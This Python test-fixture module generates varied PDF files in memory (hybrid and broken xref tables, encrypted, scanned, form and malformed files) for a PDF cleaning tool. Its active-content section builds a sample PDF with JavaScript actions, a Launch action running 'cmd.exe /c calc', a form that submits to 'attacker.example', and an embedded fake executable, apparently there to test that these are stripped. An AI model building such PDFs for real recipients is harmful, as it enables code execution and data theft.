"""Real-world PDF shapes, generated in memory: what writers, scanners and mail gateways produce.

Most samples are assembled object by object (so line ends, offsets and page trees can be made
exactly as odd as the programs that write them); the rest come from WeasyPrint, Pillow and
pikepdf (qpdf), which write linearized files, object streams and encryption.
"""

from __future__ import annotations

import functools
import io
import random
import zlib
from collections.abc import Callable

import pikepdf
import weasyprint
from PIL import Image, ImageDraw

from tests.evidence import samples

SIGN_IN_TEXT = "Sign-in sheet"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _content(text: str = SIGN_IN_TEXT) -> bytes:
    return b"BT /F1 18 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"


def stream(data: bytes, extra: bytes = b"", eol: bytes = b"\n") -> bytes:
    """An object body holding a stream (the caller adds ``obj``/``endobj``)."""
    return (
        b"<< /Length %d %s>>" % (len(data), extra)
        + b"stream"
        + (b"\r\n" if eol == b"\r\n" else eol)
        + data
        + eol
        + b"endstream"
    )


def assemble(
    objects: list[bytes],
    *,
    version: bytes = b"1.4",
    eol: bytes = b"\n",
    trailer: bytes = b"/Root 1 0 R",
) -> bytes:
    """Number ``objects`` from 1 and write them with a classic cross-reference table."""
    out = bytearray(b"%PDF-" + version + eol + b"%\xe2\xe3\xcf\xd3" + eol)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj" % number + eol + body + eol + b"endobj" + eol
    xref_at = len(out)
    # Each entry is exactly 20 bytes: the two-byte end of line depends on the writer.
    entry_end = {b"\n": b" \n", b"\r": b" \r", b"\r\n": b"\r\n"}[eol]
    out += b"xref" + eol + b"0 %d" % (len(objects) + 1) + eol
    out += b"0000000000 65535 f" + entry_end
    for offset in offsets:
        out += b"%010d 00000 n" % offset + entry_end
    out += b"trailer" + eol + b"<< /Size %d %s >>" % (len(objects) + 1, trailer) + eol
    out += b"startxref" + eol + b"%d" % xref_at + eol + b"%%EOF" + eol
    return bytes(out)


def _one_page_objects(eol: bytes = b"\n", text: str = SIGN_IN_TEXT) -> list[bytes]:
    """Catalog 1, Pages 2, Page 3, content 4, font 5, Info 6."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        stream(_content(text), eol=eol),
        _FONT,
        b"<< /Title (Sign-in sheet) /Producer (Scanner Utility 2.1) >>",
    ]


def sign_in_sheet(eol: bytes = b"\n", version: bytes = b"1.4") -> bytes:
    """A one-page sign-in sheet with a classic xref table."""
    return assemble(_one_page_objects(eol), eol=eol, version=version, trailer=_TRAILER)


_TRAILER = b"/Root 1 0 R /Info 6 0 R"


# --- Writers -------------------------------------------------------------------------------------


@functools.cache
def weasyprint_pdf() -> bytes:
    """WeasyPrint's output: PDF 1.7, object streams and a compressed xref stream."""
    html = (
        "<h1>Sign-in sheet</h1><table><tr><th>Name</th><th>Town</th></tr>"
        "<tr><td>Ana Ruiz</td><td>Hartford</td></tr></table>"
    )
    return weasyprint.HTML(string=html).write_pdf()


def _pikepdf_save(data: bytes, **options: object) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        buffer = io.BytesIO()
        pdf.save(buffer, **options)
    return buffer.getvalue()


def office_writer_pdf() -> bytes:
    """As office suites write: PDF 1.5+, objects packed in object streams, an xref stream."""
    return _pikepdf_save(
        sign_in_sheet(), object_stream_mode=pikepdf.ObjectStreamMode.generate, min_version="1.5"
    )


def hybrid_xref_pdf() -> bytes:
    """Word's "hybrid" file: a classic table for old readers plus /XRefStm for the rest."""
    objects = _one_page_objects()
    body = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    # Objects 1-3 are plain; 4 (content) and 5 (font) too; 6 (Info) goes into an object stream.
    for number in range(1, 6):
        offsets[number] = len(body)
        body += b"%d 0 obj\n" % number + objects[number - 1] + b"\nendobj\n"
    info = objects[5]
    header = b"6 0 "
    objstm = stream(header + info, b"/Type /ObjStm /N 1 /First %d " % len(header))
    offsets[7] = len(body)
    body += b"7 0 obj\n" + objstm + b"\nendobj\n"
    xref_stream_at = len(body)
    offsets[8] = xref_stream_at

    def row(kind: int, field2: int, field3: int = 0) -> bytes:
        return bytes([kind]) + field2.to_bytes(4, "big") + field3.to_bytes(2, "big")

    rows = row(0, 0, 65535) + b"".join(row(1, offsets[n]) for n in range(1, 6))
    rows += row(2, 7, 0) + row(1, offsets[7]) + row(1, offsets[8])
    xref_stream = stream(rows, b"/Type /XRef /Size 9 /W [1 4 2] /Index [0 9] ")
    body += b"8 0 obj\n" + xref_stream + b"\nendobj\n"
    table_at = len(body)
    # The classic table lists only the plain objects, as hybrid files do.
    body += b"xref\n0 6\n0000000000 65535 f \n"
    body += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 6))
    body += b"trailer\n<< /Size 9 /Root 1 0 R /Info 6 0 R /XRefStm %d >>\n" % xref_stream_at
    body += b"startxref\n%d\n%%%%EOF\n" % table_at
    return bytes(body)


def incremental_update_pdf() -> bytes:
    """A file saved twice: a second body, xref section and trailer with /Prev appended."""
    original = sign_in_sheet()
    previous_xref = int(original.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(original)
    offsets = {}
    offsets[4] = len(out)
    out += b"4 0 obj\n" + stream(_content("Sign-in sheet (signed)")) + b"\nendobj\n"
    offsets[6] = len(out)
    out += b"6 0 obj\n<< /Title (Sign-in sheet, updated) /Producer (Reader 11) >>\nendobj\n"
    xref_at = len(out)
    out += b"xref\n4 1\n%010d 00000 n \n6 1\n%010d 00000 n \n" % (offsets[4], offsets[6])
    out += b"trailer\n<< /Size 7 /Root 1 0 R /Info 6 0 R /Prev %d >>\n" % previous_xref
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def linearized_pdf() -> bytes:
    """"Fast web view": qpdf --linearize."""
    return _pikepdf_save(weasyprint_pdf(), linearize=True)


def pdf_2_0() -> bytes:
    """A PDF 2.0 file (header 2.0, no Info dictionary, xref stream)."""
    objects = _one_page_objects()[:5]
    data = assemble(objects, version=b"2.0", trailer=b"/Root 1 0 R")
    return _pikepdf_save(
        data, object_stream_mode=pikepdf.ObjectStreamMode.generate, force_version="2.0"
    )


# --- Damage that readers repair ------------------------------------------------------------------


def bom_before_header() -> bytes:
    """A byte-order mark in front of %PDF (a text tool touched the file)."""
    return samples.text_bytes()[:3] + sign_in_sheet()


def junk_before_header() -> bytes:
    """Mail-gateway leftovers before %PDF; offsets count from the start of the junk."""
    return b"Content-Type: application/pdf\r\n\r\n" + sign_in_sheet()


def trailing_junk() -> bytes:
    """Bytes after %%EOF: a download padded with zeros and a gateway's footer."""
    return sign_in_sheet() + bytes(3000) + b"\r\n-- \r\nScanned by MailGuard\r\n"


def broken_xref_offsets() -> bytes:
    """Every xref offset off by 7 bytes and a wrong startxref: readers rebuild the table."""
    data = sign_in_sheet()
    head, tail = data.split(b"xref\n", 1)
    table, rest = tail.split(b"trailer", 1)
    lines = table.split(b"\n")
    fixed = [lines[0], lines[1]]
    for line in lines[2:]:
        if line.endswith(b" n "):
            line = b"%010d" % (int(line[:10]) + 7) + line[10:]
        fixed.append(line)
    rest = rest.rsplit(b"startxref", 1)[0] + b"startxref\n%d\n%%%%EOF\n" % (len(head) + 11)
    return head + b"xref\n" + b"\n".join(fixed) + b"trailer" + rest


def no_xref_at_all() -> bytes:
    """Objects and a trailer, but the cross-reference table is missing (a cut-off save)."""
    data = sign_in_sheet()
    head, _table = data.split(b"xref\n", 1)
    return head + b"trailer\n<< /Size 7 /Root 1 0 R >>\n%%EOF\n"


def crlf_pdf() -> bytes:
    """Windows line ends throughout."""
    return sign_in_sheet(eol=b"\r\n")


def cr_pdf() -> bytes:
    """Classic Mac OS line ends (a bare CR), even after the stream keyword."""
    return sign_in_sheet(eol=b"\r")


# --- Encrypted files that open without a password ------------------------------------------------


def _encrypted(data: bytes, **encryption: object) -> bytes:
    return _pikepdf_save(data, encryption=pikepdf.Encryption(**encryption))


def empty_password_rc4_40() -> bytes:
    """Permissions-only encryption as old scanners write: RC4 40-bit, empty user password."""
    return _encrypted(sign_in_sheet(), user="", owner="scanner", R=2, aes=False, metadata=False)


def empty_password_rc4_128() -> bytes:
    """RC4 128-bit with an empty user password and printing forbidden."""
    allow = pikepdf.Permissions(print_highres=False, print_lowres=False, modify_other=False)
    return _encrypted(
        sign_in_sheet(), user="", owner="owner", R=3, aes=False, metadata=False, allow=allow
    )


def empty_password_aes_128() -> bytes:
    """AES-128 (R4) with an empty user password."""
    return _encrypted(sign_in_sheet(), user="", owner="owner", R=4, aes=True)


def empty_password_aes_256() -> bytes:
    """AES-256 (R6, PDF 2.0 style) with an empty user password, as Acrobat writes it."""
    return _encrypted(weasyprint_pdf(), user="", owner="owner", R=6)


def password_aes_256() -> bytes:
    """Needs a password to open."""
    return _encrypted(sign_in_sheet(), user="secret", owner="owner", R=6)


def password_rc4_128() -> bytes:
    """Needs a password to open (older encryption)."""
    return _encrypted(sign_in_sheet(), user="secret", owner="owner", R=3, aes=False, metadata=False)


# --- Scans, forms and page trees -----------------------------------------------------------------


def _scan_image(size: tuple[int, int] = (850, 1100)) -> Image.Image:
    image = Image.new("L", size, 255)
    draw = ImageDraw.Draw(image)
    for row in range(8):
        draw.line((60, 150 + row * 90, size[0] - 60, 150 + row * 90), fill=0, width=3)
    draw.text((60, 60), "SIGN-IN SHEET", fill=0)
    return image


def scanned_jpeg_pdf() -> bytes:
    """What a scanner app writes: one JPEG per page, no text at all (Pillow's PDF writer)."""
    buffer = io.BytesIO()
    _scan_image().convert("RGB").save(buffer, "PDF", resolution=100.0)
    return buffer.getvalue()


def scanned_fax_pdf() -> bytes:
    """An office copier's 1-bit scan: a CCITT Group 4 image and nothing else."""
    image = _scan_image().convert("1")
    tiff = io.BytesIO()
    image.save(tiff, "TIFF", compression="group4")
    with Image.open(io.BytesIO(tiff.getvalue())) as parsed:
        offset = parsed.tag_v2[273][0]
        length = parsed.tag_v2[279][0]
    g4 = tiff.getvalue()[offset : offset + length]
    width, height = image.size
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>",
        stream(b"q 612 0 0 792 0 0 cm /Im0 Do Q"),
        stream(
            g4,
            b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 "
            b"/ColorSpace /DeviceGray /Filter /CCITTFaxDecode "
            b"/DecodeParms << /K -1 /Columns %d /Rows %d /BlackIs1 false >> "
            % (width, height, width, height),
        ),
    ]
    return assemble(objects, version=b"1.3")


def acroform_pdf() -> bytes:
    """A fillable form: a text field and a checkbox, with appearances left to the reader."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R 7 0 R] "
        b"/NeedAppearances true /DA (/Helv 0 Tf 0 g) "
        b"/DR << /Font << /Helv 5 0 R >> >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R 7 0 R] >>",
        stream(_content("Name:")),
        _FONT,
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ana Ruiz) "
        b"/Rect [140 700 400 730] /P 3 0 R /F 4 /DA (/Helv 12 Tf 0 g) >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (attended) /V /Off /AS /Off "
        b"/Rect [140 660 160 680] /P 3 0 R /F 4 /MK << /CA (4) >> >>",
    ]
    return assemble(objects)


def nested_page_tree() -> bytes:
    """One page two levels down, MediaBox and Resources inherited, an empty branch beside it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [7 0 R 3 0 R] /Count 1 /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [6 0 R] /Count 1 /Rotate 0 >>",
        stream(_content()),
        _FONT,
        b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [] /Count 0 >>",
    ]
    return assemble(objects)


def page_without_type() -> bytes:
    """A page dictionary lacking /Type /Page and a root /Count that is wrong."""
    objects = _one_page_objects()
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 3 >>"
    objects[2] = objects[2].replace(b"/Type /Page ", b"")
    return assemble(objects, trailer=_TRAILER)


def page_is_root_pages() -> bytes:
    """The catalog's /Pages points straight at the page (no Pages node at all)."""
    objects = _one_page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 3 0 R >>"
    objects[2] = objects[2].replace(b"/Parent 2 0 R ", b"")
    objects[1] = b"<< /Producer (unused) >>"
    return assemble(objects, trailer=_TRAILER)


def compressed_content_pdf() -> bytes:
    """Flate-compressed page content, as nearly every writer produces."""
    objects = _one_page_objects()
    objects[3] = stream(zlib.compress(_content()), b"/Filter /FlateDecode ")
    return assemble(objects, version=b"1.6", trailer=_TRAILER)


# --- Active content ------------------------------------------------------------------------------

JS_MARKER = b"app.alert"


def _js(code: bytes = b"app.alert('hi')") -> bytes:
    return b"<< /Type /Action /S /JavaScript /JS (" + code + b") >>"


def pdf_with_scripts() -> bytes:
    """Every place a PDF can start something: open action, additional actions, the JavaScript
    name tree, page and field actions, Launch, SubmitForm, ImportData, an embedded file, and a
    chained /Next. A plain link and a bookmark jump are kept."""
    objects = [
        # 1 catalog
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R "
        b"/AA << /WC " + _js(b"app.alert('close')") + b" >> "
        b"/Names << /JavaScript << /Names [(init) 10 0 R] >> "
        b"/EmbeddedFiles << /Names [(run.exe) 11 0 R] >> >> "
        b"/Outlines 14 0 R "
        b"/AcroForm << /Fields [7 0 R 8 0 R] /XFA 13 0 R >> >>",
        # 2 pages
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        # 3 page with /AA and annotations
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R "
        b"/AA << /O " + _js(b"app.alert('page')") + b" >> "
        b"/Annots [6 0 R 7 0 R 8 0 R 12 0 R 16 0 R] >>",
        # 4 content
        stream(_content("Visible sign-in text")),
        # 5 font
        _FONT,
        # 6 link: URI kept; chained /Next JavaScript dropped
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] "
        b"/A << /S /URI /URI (https://sustainablect.org/) /Next " + _js() + b" >> >>",
        # 7 button with SubmitForm and a field calculation script
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 500 200 530] "
        b"/P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (http://attacker.example/) >> >> "
        b"/AA << /C " + _js(b"app.alert('calc')") + b" >> >>",
        # 8 text field that imports data
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 450 300 470] /P 3 0 R "
        b"/A << /S /ImportData /F (data.fdf) >> >>",
        # 9 open action that launches a program
        b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /Next " + _js() + b" >>",
        # 10 document-level script
        _js(b"app.alert('doc')"),
        # 11 embedded executable
        b"<< /Type /Filespec /F (run.exe) /EF << /F 15 0 R >> >>",
        # 12 file attachment annotation
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [400 700 420 720] /FS 11 0 R >>",
        # 13 XFA packet with script
        stream(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>"),
        # 14 outlines: one item that jumps to the page, one that runs a script
        b"<< /Type /Outlines /First 17 0 R /Last 18 0 R /Count 2 >>",
        # 15 embedded file stream
        stream(b"MZ\x90\x00not really a program", b"/Type /EmbeddedFile "),
        # 16 link that runs JavaScript
        b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /A " + _js() + b" >>",
        # 17 bookmark kept
        b"<< /Title (Sign-in) /Parent 14 0 R /Next 18 0 R /Dest [3 0 R /Fit] >>",
        # 18 bookmark with a script
        b"<< /Title (Run) /Parent 14 0 R /Prev 17 0 R /A " + _js() + b" >>",
    ]
    return assemble(objects, version=b"1.7")


def pdf_with_javascript_uri() -> bytes:
    """A link whose URI is a javascript: URL, and a GoToR that opens another file."""
    objects = _one_page_objects()
    objects[2] = objects[2].replace(
        b"/Contents 4 0 R >>", b"/Contents 4 0 R /Annots [7 0 R 8 0 R] >>"
    )
    objects.append(
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] "
        b"/A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>"
    )
    objects.append(
        b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] "
        b"/A << /S /GoToR /F (agenda.pdf) /D [0 /Fit] >> >>"
    )
    return assemble(objects, trailer=_TRAILER)


def portfolio_pdf() -> bytes:
    """A PDF portfolio: a cover page whose real content is the files inside it."""
    objects = _one_page_objects()
    objects[0] = (
        b"<< /Type /Catalog /Pages 2 0 R /Collection << /Type /Collection /View /T >> "
        b"/Names << /EmbeddedFiles << /Names [(minutes.pdf) 7 0 R] >> >> >>"
    )
    objects.append(b"<< /Type /Filespec /F (minutes.pdf) /EF << /F 8 0 R >> >>")
    objects.append(stream(sign_in_sheet(), b"/Type /EmbeddedFile "))
    return assemble(objects, trailer=_TRAILER)


# --- Files no reader opens -----------------------------------------------------------------------


def header_only() -> bytes:
    """%PDF- and then noise."""
    return b"%PDF-1.7\n" + random.Random(7).randbytes(2048)


def no_pages_pdf() -> bytes:
    """A well-formed file whose page tree is empty."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    return assemble(objects)


def cut_off_download() -> bytes:
    """A download that stopped at 60%: no cross-reference data and no trailer survive."""
    data = weasyprint_pdf()
    return data[: len(data) * 6 // 10]


# Every shape a mainstream reader opens: (name, builder, page count).
OPENABLE: list[tuple[str, Callable[[], bytes], int]] = [
    ("weasyprint", weasyprint_pdf, 1),
    ("office object streams", office_writer_pdf, 1),
    ("hybrid xref (Word)", hybrid_xref_pdf, 1),
    ("incremental update", incremental_update_pdf, 1),
    ("linearized", linearized_pdf, 1),
    ("PDF 2.0", pdf_2_0, 1),
    ("BOM before header", bom_before_header, 1),
    ("junk before header", junk_before_header, 1),
    ("trailing junk", trailing_junk, 1),
    ("broken xref offsets", broken_xref_offsets, 1),
    ("no xref table", no_xref_at_all, 1),
    ("CRLF line ends", crlf_pdf, 1),
    ("CR line ends", cr_pdf, 1),
    ("empty password RC4-40", empty_password_rc4_40, 1),
    ("empty password RC4-128", empty_password_rc4_128, 1),
    ("empty password AES-128", empty_password_aes_128, 1),
    ("empty password AES-256", empty_password_aes_256, 1),
    ("scanned JPEG", scanned_jpeg_pdf, 1),
    ("scanned CCITT G4", scanned_fax_pdf, 1),
    ("AcroForm", acroform_pdf, 1),
    ("nested page tree", nested_page_tree, 1),
    ("page without /Type, wrong /Count", page_without_type, 1),
    ("catalog points at the page", page_is_root_pages, 1),
    ("flate content", compressed_content_pdf, 1),
    ("scripts and actions", pdf_with_scripts, 1),
    ("javascript: URI", pdf_with_javascript_uri, 1),
]

# Files we refuse, with the refusal code: those needing a password, those no reader opens, and
# a portfolio (its content is the embedded files that cleaning removes).
REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    ("needs a password (AES-256)", password_aes_256, "pdf_password"),
    ("needs a password (RC4)", password_rc4_128, "pdf_password"),
    ("header then noise", header_only, "pdf_unreadable"),
    ("cut-off download", cut_off_download, "pdf_unreadable"),
    ("no pages", no_pages_pdf, "pdf_no_pages"),
    ("portfolio", portfolio_pdf, "pdf_portfolio"),
]
